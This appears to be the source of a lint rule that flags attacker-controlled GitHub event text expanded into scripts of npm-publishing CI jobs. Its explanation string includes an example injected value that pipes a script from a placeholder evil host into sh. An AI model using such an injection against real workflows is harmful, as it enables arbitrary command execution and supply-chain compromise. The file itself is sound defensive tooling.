import { defineRule } from '../../src/engine/define-rule.js';
import type { ProjectFacts } from '../../src/model/facts.js';
import { yieldedReferences } from '../../src/model/github/expressions.js';
import { keepsOut, skippedWithNeed } from '../../src/model/github/needs.js';
import { localActionDir } from '../../src/model/github/composite-action.js';
import type { Job } from '../../src/model/github/types.js';
import { isLocalAction } from '../../src/model/github/workflow.js';
import type { YNode } from '../../src/yaml/parse.js';
import { untrustedIn } from './contexts.js';

const EXPRESSION = /\$\{\{([\s\S]*?)\}\}/g;

const INJECTION_WHY =
  'GitHub substitutes the expression into the script text before the shell starts, so {what} becomes shell code: a value such as `"; curl https://evil.example/x | sh #` runs as a command. Anyone who can set it (open an issue or a pull request, name a branch, write a commit message) runs commands';

export default defineRule({
  id: 'no-script-injection-in-publish-job',
  meta: {
    severity: 'warning',
    providers: ['github'],
    summary: 'No attacker-controlled `${{ github.event.* }}` text is expanded into a script of the publishing job or a job it needs',
    // Script injection in a job that can mint the npm OIDC token is a publish by anyone who can
    // open an issue or name a branch; it needs the event to reach the job (7.0).
    securitySeverity: 7.0,
    messages: {
      publishingJob: {
        text: 'Job "{job}" {publishes} to npm and expands `{expression}` ({what}) into a {kind}',
        why: `${INJECTION_WHY} inside the job that can mint the npm OIDC token and publish with valid provenance`,
        fix: 'Pass the value through `env:` (for example `env: VALUE: {expression}`) and use it quoted as `"$VALUE"` in the script',
      },
      neededJob: {
        text: 'Job "{job}", whose results publishing job "{publisher}" uses (`needs`), expands `{expression}` ({what}) into a {kind}',
        why: `${INJECTION_WHY} in a job whose outputs, artifacts and caches the publishing job trusts: a poisoned build ships in the published package`,
        fix: 'Pass the value through `env:` (for example `env: VALUE: {expression}`) and use it quoted as `"$VALUE"` in the script',
      },
    },
  },
  hooks: {
    project(project, ctx) {
      const reported = new Set<string>();
      for (const publisher of ctx.facts.publishingJobs) {
        const certainty = ctx.facts.jobCertainty(publisher);
        const chains = project.callGraph.entryChains(publisher.workflow);
        // The events that can reach the job; unknown for a workflow only another repository calls.
        const reachingWorkflow = chains.length === 0 ? undefined : new Set(chains.flatMap((c) => c.entry.triggers.map((t) => t.event)));
        // Of those, the events the publishing job runs for; a job it needs counts for the events both run for.
        const events = runningFor(publisher, reachingWorkflow);
        for (const job of withNeeds(publisher)) {
          const jobEvents = job === publisher ? events : runningFor(job, events);
          for (const script of scriptsOf(job, ctx.facts)) {
            const text = script.node.text ?? '';
            for (const m of text.matchAll(EXPRESSION)) {
              const found = reaching(m[1] ?? '', jobEvents);
              if (found.length === 0) continue;
              const location = { file: script.node.file, ...script.node.valueSpan(m.index, m.index + m[0].length) };
              const key = `${location.file}:${location.start.line}:${location.start.column}`;
              if (reported.has(key)) continue;
              reported.add(key);
              const data = { job: job.id, expression: m[0], what: found.map((c) => c.what).join(', '), kind: script.kind };
              if (job === publisher) {
                ctx.report({ messageId: 'publishingJob', data: { ...data, publishes: ctx.facts.verb(job) }, at: location, certainty });
              } else {
                ctx.report({
                  messageId: 'neededJob',
                  data: { ...data, publisher: publisher.id },
                  at: location,
                  related: [{ at: publisher.node, label: `publishing job "${publisher.id}"` }],
                  certainty,
                });
              }
            }
          }
        }
      }
    },
  },
});

/**
 * The untrusted values whose text the expression's value may carry: only those it can yield
 * (`contains(github.event.issue.title, 'x')` is `true` or `false`), all it names when tp-doctor
 * cannot tell (`format(...)`, `toJSON(...)`).
 */
function reaching(expression: string, events: ReadonlySet<string> | undefined): ReturnType<typeof untrustedIn> {
  const found = untrustedIn(expression, events);
  const yielded = found.length === 0 ? undefined : yieldedReferences(expression);
  return yielded === undefined ? found : untrustedIn(yielded.join(' '), events);
}

/**
 * The events of `events` the job may run for: not those its own `if:` certainly keeps out, nor
 * those a job it needs is skipped for (../../src/model/github/needs.ts; a check job with
 * `if: github.event_name == 'pull_request'` before a publish that runs on `push` only). Unknown
 * events stay unknown.
 */
function runningFor(job: Job, events: ReadonlySet<string> | undefined): ReadonlySet<string> | undefined {
  if (!events) return undefined;
  return new Set([...events].filter((e) => !(job.if !== undefined && keepsOut(job.if, e)) && skippedWithNeed(job, e) === undefined));
}

/** The job and every job it needs, directly or through other jobs, in the same workflow. */
function withNeeds(job: Job): Job[] {
  const out: Job[] = [job];
  for (let i = 0; i < out.length; i++) {
    for (const id of out[i]!.needs) {
      const needed = job.workflow.jobs.find((j) => j.id === id);
      if (needed && !out.includes(needed)) out.push(needed);
    }
  }
  return out;
}

/**
 * The script texts a job runs: each step's `run:`, `actions/github-script`'s `script:`, the script
 * inputs of a command-running action (`nick-fields/retry`'s `command`, `new_command_on_retry`:
 * `Step.wrapper`), and the same inside the local composite actions it uses (one level).
 */
function scriptsOf(job: Job, facts: ProjectFacts): { node: YNode; kind: string }[] {
  const out: { node: YNode; kind: string }[] = [];
  const add = (uses: string | undefined, run: YNode | undefined, script: YNode | undefined): void => {
    if (run?.text !== undefined) out.push({ node: run, kind: '`run:` script' });
    if (script?.text !== undefined && uses?.toLowerCase().startsWith('actions/github-script@')) out.push({ node: script, kind: '`actions/github-script` script' });
  };
  for (const step of job.steps) {
    const uses = step.uses?.node.text;
    const wrapper = step.wrapper;
    if (wrapper) {
      // A command-running action's script inputs (`nick-fields/retry`'s `command`): shell scripts, read like a `run:`.
      for (const node of [step.run?.node, ...wrapper.otherScripts]) if (node?.text !== undefined) out.push({ node, kind: `\`${wrapper.action}\` \`${node.key ?? wrapper.input}\` script` });
      continue;
    }
    add(uses, step.run?.node, step.with.get('script'));
    if (step.uses && isLocalAction(step.uses.name)) {
      const dir = localActionDir(job, step.uses.name);
      const items = dir === undefined ? undefined : facts.action(dir)?.root?.at('runs', 'steps');
      for (const inner of items?.isSeq ? items.items() : []) add(inner.get('uses')?.text, inner.get('run'), inner.at('with', 'script'));
    }
  }
  return out;
}
